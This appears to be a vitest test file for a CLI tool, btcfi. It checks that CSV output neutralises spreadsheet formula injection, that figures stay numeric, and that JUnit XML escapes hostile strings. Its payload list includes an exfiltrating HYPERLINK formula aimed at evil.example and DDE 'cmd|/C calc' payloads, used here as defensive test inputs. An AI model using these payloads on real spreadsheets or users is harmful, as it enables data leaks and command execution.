// No text btcfi writes reaches a spreadsheet as a formula: the OWASP CSV-injection payloads in
// every text field (scenario name, title, case, period label, history column), on stdout and in
// --output files, while figures (negative ones too) stay numbers; and JUnit XML escapes them.
import { Chalk } from 'chalk';
import { parse as parseCsv } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { D } from '../../src/engine/decimal.js';
import { renderGridCsv } from '../../src/render/grid/renderGridCsv.js';
import { renderCsv, toCsv } from '../../src/render/renderCsv.js';
import type { ProjectReport } from '../../src/report/types.js';
import { FORMULA_START, PLAIN_FIGURE } from '../fuzz/checkPipeline.js';
import { runCli } from '../helpers/runCli.js';

let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'btcfi-spreadsheet-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** The OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection), and their full-width forms. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: click to fix")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-2+3',
  '=1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '＝HYPERLINK("http://evil.example")',
  '＋cmd|\' /C calc\'!A0',
  '－2+3',
  '＠SUM(1+1)',
];

const OPTIONS = { digits: null, chalk: new Chalk({ level: 0 }), locale: 'en-US' };
const parse = (csv: string): string[][] => parseCsv(csv) as string[][];

describe('toCsv', () => {
  it.each(PAYLOADS)('neutralises %j in a text cell with a leading quote', (payload) => {
    const [, row] = parse(toCsv([['text', 'figure'], [payload, '-1.5']], new Set([1])));
    expect(row).toEqual([`'${payload}`, '-1.5']);
  });

  it.each(PAYLOADS)('neutralises %j even in a figure column, where only a plain figure is left alone', (payload) => {
    const [, row] = parse(toCsv([['figure'], [payload]], new Set([0])));
    expect(row![0]).toBe(`'${payload}`);
  });

  it.each(['-0.05', '-1', '0', '12345678901234567891.25', '-0.000000000001', '1000000000000000000000000000000'])('leaves the figure %s a number', (figure) => {
    const [, row] = parse(toCsv([['figure'], [figure]], new Set([0])));
    expect(row![0]).toBe(figure);
  });
});

/** A project report whose every text field holds `text`, with negative and tiny figures. */
function hostileReport(text: string): ProjectReport {
  const row = (index: number) => ({ period: text, index, marketCap: new D('2e12'), utilization: new D('0.05'), tvl: new D('-1e-12'), change: null, quantiles: null });
  return {
    scenarios: [
      {
        name: text,
        title: text,
        source: text,
        unit: 'USD',
        whatIf: [text],
        // References add no CSV column, whatever their texts hold.
        references: [{ name: text, value: new D('1e12'), unit: 'USD', period: text, source: text, note: text, cases: [{ case: text, start: 'below', end: 'below', last: text, crossing: null, growthNeeded: new D('0.5'), utilizationNeeded: null }] }],
        cases: [{ name: text, rowCount: 2, walk: () => [row(0), row(1)], rows: [row(0), row(1)], target: { value: new D('1e30'), reached: text, growthNeeded: new D('-0.25'), utilizationNeeded: new D('-0.5') }, simulation: null }],
      },
    ],
  };
}

describe('project CSV', () => {
  it.each(PAYLOADS)('writes %j in every text column as text, and every figure as a number', (payload) => {
    const rows = parse([...renderCsv(hostileReport(payload), OPTIONS)].join(''));
    const header = rows[0]!;
    for (const row of rows.slice(1)) {
      row.forEach((cell, i) => {
        const column = header[i]!;
        if (['scenario', 'case', 'period', 'target_reached'].includes(column)) {
          expect(cell).toBe(`'${payload}`);
          expect(cell).not.toMatch(FORMULA_START);
        } else if (column !== 'unit') {
          expect(cell === '' || PLAIN_FIGURE.test(cell), `${column} = ${cell}`).toBe(true);
        }
      });
      expect(row[header.indexOf('tvl')]).toBe('-0.000000000001');
      expect(row[header.indexOf('growth_needed')]).toBe('-0.25');
    }
  });

  it('keeps a negative figure a number from the CLI, on stdout and in an --output file', async () => {
    const file = join(dir, 'fall.yaml');
    await writeFile(file, `name: fall\ntitle: '${PAYLOADS[0]!.replace(/'/g, "''")}'\nsource: "+cmd|' /C calc'!A0"\nnotes: '@SUM(1+1)'\ntvl: 100B\nyears: 2\ngrowth: -10%\ntarget: 50B\n`);
    const stdout = await runCli(['project', file, '--format', 'csv']);
    expect(stdout.exitCode).toBe(0);
    const output = join(dir, 'fall.csv');
    const written = await runCli(['project', file, '--format', 'csv', '-o', output]);
    expect(written.exitCode).toBe(0);
    expect(await readFile(output, 'utf8')).toBe(stdout.stdout);
    const rows = parse(stdout.stdout);
    const header = rows[0]!;
    // A period without a start year is years from the start: a number, with no sign to neutralise.
    expect(rows[1]![header.indexOf('period')]).toBe('0');
    expect(rows[1]![header.indexOf('growth_needed')]).toMatch(/^-0\.29289321881345247559915563789515096071\d*$/);
    for (const cell of rows.flat()) {
      expect(cell).not.toMatch(/^[=+@\t\r\uFF1D\uFF0B\uFF20]/);
    }
  });

  it.each([
    ['name', (p: string) => `name: '${p}'\ntvl: 1\n`, /name must use only lowercase letters/],
    ['case name', (p: string) => `name: a\ntvl: 1\ncases:\n  '${p}': {growth: 5%}\n`, /a case name uses letters, digits/],
  ])('refuses a payload as a %s, which would reach a CSV cell', async (_, write, message) => {
    for (const payload of PAYLOADS.filter((p) => !/[\r\n]/.test(p))) {
      const file = join(dir, 'hostile.yaml');
      await writeFile(file, write(payload.replace(/'/g, "''")));
      const result = await runCli(['project', file, '--format', 'csv']);
      expect(result.exitCode).toBe(2);
      expect(result.stdout).toBe('');
      expect(result.stderr).toMatch(message);
    }
  });
});

describe('grid CSV', () => {
  it('writes negative axis values and cells as numbers, in both layouts', () => {
    const values = (...texts: string[]) => texts.map((t) => new D(t));
    const grid = {
      scenario: PAYLOADS[0]!,
      case: PAYLOADS[1]!,
      unit: 'USD' as const,
      x: { field: 'growth' as const, values: values('-0.5', '-0.1', '0'), marked: [], stopsShort: null },
      y: { field: 'years' as const, values: values('1', '2'), marked: [], stopsShort: null },
      at: PAYLOADS[2]!,
      rows: () => [values('-1', '-0.5', '0'), values('-2', '-1e-12', '3')],
    };
    for (const layout of ['matrix', 'long'] as const) {
      const rows = parse([...renderGridCsv(grid, { ...OPTIONS, layout })].join(''));
      for (const cell of rows.slice(1).flat()) {
        expect(cell).toMatch(PLAIN_FIGURE);
      }
      if (layout === 'matrix') {
        expect(rows[0]).toEqual(['y\\x', '-0.5', '-0.1', '0']);
      }
    }
  });
});

describe('history columns', () => {
  it('solve has no CSV output, and gives hostile column names back as JSON strings', async () => {
    const input = `"${PAYLOADS[0]!.replace(/"/g, '""')}","${PAYLOADS[1]}"\n2020,1\n2021,2\n`;
    const csv = await runCli(['solve', 'growth', '--history', '-', '--format', 'csv'], { input });
    expect(csv.exitCode).toBe(2);
    expect(csv.stdout).toBe('');
    const json = await runCli(['solve', 'growth', '--history', '-', '--date-column', PAYLOADS[0]!, '--value-column', PAYLOADS[1]!, '--format', 'json'], { input });
    expect(json.exitCode).toBe(0);
    expect(JSON.parse(json.stdout).inputs).toMatchObject({ date_column: PAYLOADS[0], value_column: PAYLOADS[1] });
  });
});

describe('JUnit XML', () => {
  it('escapes payloads in file names, keys and case names, and writes what XML cannot hold as escapes', async () => {
    const keyFile = join(dir, `=HYPERLINK("x")&<y>'.yaml`);
    await writeFile(keyFile, `name: junit-key\ntvl: 1B\n"<b>&\\u0007${PAYLOADS[1]!.replace(/"/g, '\\"')}": 1\n`);
    const caseFile = join(dir, 'case.yaml');
    await writeFile(caseFile, `name: junit-case\ntvl: 1B\ncases: {a: {growth: 5%}}\nexpect:\n  - {case: '${PAYLOADS[0]!.replace(/'/g, "''")}]]>', period: +0, tvl: 1B}\n`);
    const junit = await runCli(['check', keyFile, caseFile, '--format', 'junit']);
    expect(junit.exitCode).toBe(2);
    expect(XMLValidator.validate(junit.stdout)).toBe(true);
    const json = await runCli(['check', keyFile, caseFile, '--format', 'json']);
    const files = (JSON.parse(json.stdout) as { files: { file: string; issues: { message: string }[] }[] }).files;
    const document = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '', processEntities: true, htmlEntities: true }).parse(junit.stdout);
    const suites = document.testsuites.testsuite as { name: string; testcase: { error: { message: string; '#text': string } } }[];
    expect(suites.map((suite) => suite.name).sort()).toEqual([keyFile, caseFile].sort());
    for (const suite of suites) {
      const message = files.find((f) => f.file === suite.name)!.issues[0]!.message;
      // Each file's first issue, exactly as check --format json gives it: the control character quoted as \x07.
      expect(suite.testcase.error.message).toBe(message);
      expect(suite.testcase.error['#text']).toContain(message);
    }
    expect(files.flatMap((f) => f.issues.map((i) => i.message))).toEqual(
      expect.arrayContaining([expect.stringContaining(`<b>&\\x07${PAYLOADS[1]}`), expect.stringContaining(`no case named '${PAYLOADS[0]}]]>'`)]),
    );
    const output = join(dir, 'junit.xml');
    expect((await runCli(['check', keyFile, caseFile, '--format', 'junit', '-o', output])).exitCode).toBe(2);
    expect(await readFile(output, 'utf8')).toBe(junit.stdout);
  });
});
